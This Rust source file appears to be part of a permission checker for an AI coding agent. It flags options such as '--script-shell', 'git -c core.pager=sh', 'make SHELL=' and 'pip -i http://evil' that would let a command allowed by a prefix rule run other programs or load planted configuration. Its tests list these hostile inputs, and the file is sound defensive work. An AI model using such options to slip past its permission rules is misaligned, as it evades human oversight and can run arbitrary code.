//! Options that turn a command a prefix rule allows into another program.
//!
//! `Bash(npm run test:*)` means "run the test script, with any arguments";
//! it does not mean "with `--script-shell=/tmp/evil`". The rule: a prefix
//! or wildcard rule never allows, in the words after the rule's own, an
//! option that
//! - runs a program or inline code the rule did not name (`--script-shell`,
//!   `--exec`, `--upload-pack`, `python -c`, `make --eval`),
//! - loads configuration or a build file that can name such a program
//!   (`git -c`, `cargo --config`, `npm --userconfig`, `make -f`,
//!   `--manifest-path`, a directory to run another project in: `make -C`,
//!   `npm --prefix`), or
//! - writes files somewhere the rule did not name (`--output`, `-o FILE`,
//!   `--target-dir`, `pip --target`).
//!
//! Each common program has its list below; every other option stays
//! allowed (an unknown option does not ask: `Bash(cargo test:*)` keeps
//! allowing `--release`). Words after `--` go to the program the command
//! runs (a test binary, a script) and are not options of this one. Long
//! options also match by abbreviation where the program's parser accepts
//! unique prefixes (getopt_long, git, nopt, optparse), since `--outp=x` is
//! `--output=x` there. Combined short options are searched letter by
//! letter (`-sf evil.mk` holds `-f`).

use crate::shell::Word;

/// One program's risky options.
struct Risky {
    /// Program names (a basename; `python` also covers `python3.12`).
    programs: &'static [&'static str],
    /// Long options, without `--`.
    long: &'static [&'static str],
    /// Short option letters.
    short: &'static [char],
    /// `NAME=value` operands that change what runs (make's `SHELL=`).
    assigns: &'static [&'static str],
    /// The parser accepts unique abbreviations of long options.
    abbrev: bool,
}

/// Any program: options that by their name run a program.
const GENERIC: &[&str] = &[
    "exec",
    "exec-path",
    "script-shell",
    "upload-pack",
    "receive-pack",
];

const TABLE: &[Risky] = &[
    Risky {
        programs: &["npm", "pnpm", "yarn", "npx"],
        long: &[
            "script-shell",
            "shell",
            "node-options",
            "onload-script",
            "init-module",
            "userconfig",
            "globalconfig",
            "use-yarnrc",
            "prefix",
            "dir",
            "cwd",
            "node-gyp",
            "git",
            "editor",
            "browser",
            "viewer",
            "call",
            "package",
            "cache",
            "cache-folder",
            "modules-folder",
            "global-folder",
            "link-folder",
        ],
        short: &['c', 'C'],
        assigns: &[],
        abbrev: true,
    },
    Risky {
        programs: &["cargo"],
        long: &[
            "config",
            "target-dir",
            "artifact-dir",
            "out-dir",
            "manifest-path",
        ],
        short: &['Z', 'C'],
        assigns: &[],
        // clap takes no abbreviations: `--target` is not `--target-dir`.
        abbrev: false,
    },
    Risky {
        programs: &["make", "gmake"],
        long: &["file", "makefile", "eval", "directory", "include-dir"],
        short: &['f', 'E', 'C', 'I'],
        assigns: &[
            "SHELL",
            ".SHELLFLAGS",
            "MAKE",
            "MAKEFLAGS",
            "MFLAGS",
            "MAKEFILES",
        ],
        abbrev: true,
    },
    Risky {
        programs: &["pip", "pip3"],
        long: &[
            "target",
            "prefix",
            "root",
            "src",
            "python",
            "log",
            "report",
            "cache-dir",
            "dest",
            "index-url",
            "extra-index-url",
            "find-links",
        ],
        short: &['t', 'd', 'i', 'f'],
        assigns: &[],
        abbrev: true,
    },
    Risky {
        programs: &["python"],
        long: &[],
        short: &['c', 'm'],
        assigns: &[],
        abbrev: false,
    },
    Risky {
        programs: &["node", "deno", "bun"],
        long: &[
            "eval",
            "print",
            "require",
            "import",
            "loader",
            "experimental-loader",
        ],
        short: &['e', 'p', 'r'],
        assigns: &[],
        abbrev: false,
    },
    Risky {
        programs: &["perl"],
        long: &[],
        short: &['e', 'E', 'M'],
        assigns: &[],
        abbrev: false,
    },
    Risky {
        programs: &["ruby"],
        long: &[],
        short: &['e', 'r'],
        assigns: &[],
        abbrev: false,
    },
    Risky {
        programs: &["bash", "sh", "zsh", "dash", "ksh"],
        long: &["rcfile", "init-file"],
        short: &['c'],
        assigns: &[],
        abbrev: false,
    },
];

/// git's options before the subcommand that run a program or point git
/// at configuration (`-c core.pager=…`, `--git-dir` of a planted repo).
const GIT_GLOBAL_LONG: &[&str] = &["config-env", "exec-path", "git-dir", "work-tree"];
const GIT_GLOBAL_SHORT: &[char] = &['c', 'C'];
/// git's global options that take the next word as their value.
const GIT_GLOBAL_VALUED: &[&str] = &[
    "-c",
    "-C",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--config-env",
    "--exec-path",
];
/// git subcommand options (any subcommand) that run a program or write.
const GIT_SUB_LONG: &[&str] = &[
    "output",
    "upload-pack",
    "receive-pack",
    "exec",
    "ext-diff",
    "open-files-in-pager",
    "template",
    "separate-git-dir",
    "extcmd",
    "tool",
];
/// git short options that are risky only in some subcommands (`-u` is
/// `--upload-pack` for fetch, `--update` for add).
const GIT_SUB_SHORT: &[(&str, &[char])] = &[
    ("format-patch", &['o']),
    ("archive", &['o']),
    ("fetch", &['u']),
    ("pull", &['u']),
    ("clone", &['u']),
    ("ls-remote", &['u']),
    ("grep", &['O']),
    ("rebase", &['x']),
    ("difftool", &['x', 't']),
    ("mergetool", &['t']),
];

/// The first risky option in `words[from..]` (the words after a prefix
/// rule's own), if any, as written.
pub(crate) fn risky_option(words: &[Word], from: usize) -> Option<String> {
    let prog = words.first()?;
    let name = prog.text.rsplit('/').next().unwrap_or(&prog.text);
    if name == "git" {
        return git_risky(words, from);
    }
    let entry = TABLE.iter().find(|r| {
        r.programs.iter().any(|p| {
            name == *p
                || (*p == "python"
                    && name
                        .strip_prefix("python")
                        .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.')))
        })
    });
    for w in words.iter().skip(from.max(1)) {
        let t = w.text.as_str();
        if t == "--" {
            break;
        }
        let hit = match entry {
            Some(r) => {
                long_hit(t, r.long, r.abbrev)
                    || short_hit(t, r.short)
                    || t.split_once('=')
                        .is_some_and(|(k, _)| r.assigns.contains(&k))
                    || (r.programs.contains(&"npm") && npm_config_hit(t))
            }
            None => false,
        } || long_hit(t, GENERIC, false);
        if hit {
            return Some(t.to_owned());
        }
    }
    None
}

/// npm and pnpm take any config key as an option: a registry (whose
/// packages' install scripts then run) or pnpm's `--config.KEY=`.
fn npm_config_hit(t: &str) -> bool {
    t.strip_prefix("--")
        .map(|o| o.split('=').next().unwrap_or(o))
        .is_some_and(|o| o.contains("registry") || o.starts_with("config."))
}

fn long_hit(word: &str, list: &[&str], abbrev: bool) -> bool {
    let Some(opt) = word.strip_prefix("--") else {
        return false;
    };
    let name = opt.split('=').next().unwrap_or(opt);
    !name.is_empty()
        && list
            .iter()
            .any(|o| *o == name || (abbrev && name.len() >= 2 && o.starts_with(name)))
}

fn short_hit(word: &str, letters: &[char]) -> bool {
    match word.strip_prefix('-') {
        Some(rest) if !rest.starts_with('-') => {
            // The letters up to a value glued on (`-opath`, `-Wignore`):
            // every letter is searched, a glued value's too (fail closed).
            rest.chars().any(|c| letters.contains(&c))
        }
        _ => false,
    }
}

fn git_risky(words: &[Word], from: usize) -> Option<String> {
    // Find the subcommand: the first word that is not a global option or
    // a global option's value.
    let mut sub = None;
    let mut i = 1;
    while i < words.len() {
        let t = words[i].text.as_str();
        if !t.starts_with('-') {
            sub = Some(i);
            break;
        }
        i += if GIT_GLOBAL_VALUED.contains(&t) { 2 } else { 1 };
    }
    let sub_name = sub.map(|s| words[s].text.as_str());
    let shorts: &[char] = GIT_SUB_SHORT
        .iter()
        .find(|(s, _)| Some(*s) == sub_name)
        .map_or(&[], |(_, c)| c);
    for (i, w) in words.iter().enumerate().skip(from.max(1)) {
        let t = w.text.as_str();
        if t == "--" {
            break;
        }
        let hit = if sub.is_none_or(|s| i < s) {
            long_hit(t, GIT_GLOBAL_LONG, true) || short_hit(t, GIT_GLOBAL_SHORT)
        } else {
            long_hit(t, GIT_SUB_LONG, true) || short_hit(t, shorts) || long_hit(t, GENERIC, false)
        };
        if hit {
            return Some(t.to_owned());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn risky(cmd: &str, from: usize) -> Option<String> {
        let words: Vec<Word> = cmd
            .split_whitespace()
            .map(|t| Word {
                text: t.to_owned(),
                ..Word::default()
            })
            .collect();
        risky_option(&words, from)
    }

    #[test]
    fn risky_options_after_the_prefix() {
        for (cmd, from) in [
            ("npm run test --script-shell=/tmp/evil", 3),
            ("npm run test --scr=/tmp/evil", 3),
            ("npm run test --userconfig /tmp/rc", 3),
            ("npm run test --registry=http://x", 3),
            ("pnpm run test --config.script-shell=x", 3),
            ("npx prettier -c 'sh x'", 2),
            ("yarn test --cwd /tmp/x", 2),
            ("cargo test --config target.x.runner='sh'", 2),
            ("cargo test --target-dir=/tmp/t", 2),
            ("cargo test -Zunstable-options", 2),
            ("make test -f /tmp/evil.mk", 2),
            ("make test -sf /tmp/evil.mk", 2),
            ("make test --eval=x", 2),
            ("make test SHELL=/tmp/evil", 2),
            ("make test -C /tmp/x", 2),
            ("pip install x --target /tmp", 2),
            ("pip install x -i http://evil", 2),
            ("python3 -u -c code", 2),
            ("python3.12 -W ignore -m evil", 3),
            ("node -e code", 1),
            ("git -C sub -c core.pager=sh log", 3),
            ("git fetch --upload-pack=sh origin", 2),
            ("git fetch -u sh origin", 2),
            ("git diff --outp=x", 2),
            ("git grep -O sh foo", 2),
            ("git rebase -x sh main", 2),
            ("git archive -o /tmp/x HEAD", 2),
            ("someprog --exec=sh", 1),
        ] {
            assert!(risky(cmd, from).is_some(), "{cmd}");
        }
        for (cmd, from) in [
            ("cargo test --release", 2),
            ("cargo test --target x86_64-unknown-linux-gnu", 2),
            ("cargo test -p foo -- --nocapture", 2),
            ("npm run test -- --script-shell=x", 3),
            ("npm run test --watch", 3),
            ("make test -j4", 2),
            ("make test CC=clang", 2),
            ("git log -c", 2),
            ("git add -u", 2),
            ("git diff --stat", 2),
            ("pip install -e .", 2),
            ("python3 script.py -v", 2),
            ("someprog --output=x", 1),
        ] {
            assert_eq!(risky(cmd, from), None, "{cmd}");
        }
    }
}
